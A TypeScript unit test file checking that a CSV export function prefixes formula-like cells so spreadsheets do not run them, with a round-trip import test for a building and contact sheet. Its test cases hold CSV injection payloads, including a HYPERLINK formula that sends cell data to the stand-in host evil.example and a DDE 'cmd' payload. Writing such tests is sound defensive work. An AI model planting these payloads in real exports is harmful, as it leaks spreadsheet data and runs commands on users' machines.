/**
 * CSV exports neutralise formulas (OWASP's CSV injection advice): every export
 * of the admin page goes through toCsv, and the unit import reads its own
 * export back unchanged.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { toCsv } from '../../web/src/csv.ts';
import { unitsFromCsv } from '../../shared/contract/directory.ts';

const cells = async (rows: string[][]) => parse((await toCsv(rows)).replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][];

describe('toCsv', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"点我")', `'=HYPERLINK("http://evil.example/?"&A1,"点我")`],
    ['+1+cmd|\' /C calc\'!A0', `'+1+cmd|' /C calc'!A0`],
    ['-2+3', `'-2+3`],
    ['@SUM(A1:A9)', `'@SUM(A1:A9)`],
    ['\t=1', `'\t=1`],
    ['\r=1', `'\r=1`],
    ['楼道灯坏了', '楼道灯坏了'],
    ['13800138000', '13800138000'],
    ['a=b', 'a=b'],
  ])('writes %j as %j', async (cell, written) => {
    expect((await cells([[cell]]))[0]?.[0]).toBe(written);
  });

  it('never writes a cell a spreadsheet would run as a formula (property)', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(fc.array(fc.string(), { minLength: 1, maxLength: 4 }), { minLength: 1, maxLength: 5 }), async (rows) => {
        for (const row of await cells(rows)) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      }),
    );
  });
});

describe('the unit sheet round trip', () => {
  it('imports an exported sheet unchanged, neutralised cells included', async () => {
    const rows = [
      ['id', 'name', 'level', 'parentId', 'contactName', 'contactPhone'],
      ['hp-xf-yg-9', '+9栋', 'building', 'hp-xf-yg', '=张三', '+8613800138000'],
    ];
    const csv = await toCsv(rows);
    expect(csv).toContain(`'+9栋`);
    expect(await unitsFromCsv(csv)).toMatchObject({
      units: [{ id: 'hp-xf-yg-9', name: '+9栋', level: 'building', parentId: 'hp-xf-yg', contacts: [{ name: '=张三', phone: '+8613800138000' }] }],
    });
  });
});
